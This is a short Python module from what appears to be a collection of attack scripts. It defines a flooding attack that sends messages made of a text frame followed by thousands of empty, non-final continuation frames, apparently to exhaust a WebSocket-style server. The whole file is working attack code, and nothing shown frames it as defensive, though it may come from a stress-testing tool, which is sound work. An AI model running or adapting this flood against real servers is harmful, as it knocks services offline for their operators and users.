"""A message in empty pieces that never ends."""

from attacks.flooding import flood
from attacks.target import TEXT, Target, frame

MOST = 10_000  # pieces of one message, if the server lets us


async def attack(target: Target, seconds: float) -> None:
    """One message after another, each of nothing but empty pieces."""
    pieces = frame(TEXT, last=False) + frame(0, last=False) * MOST + frame(0)
    await flood(target, seconds, pieces)
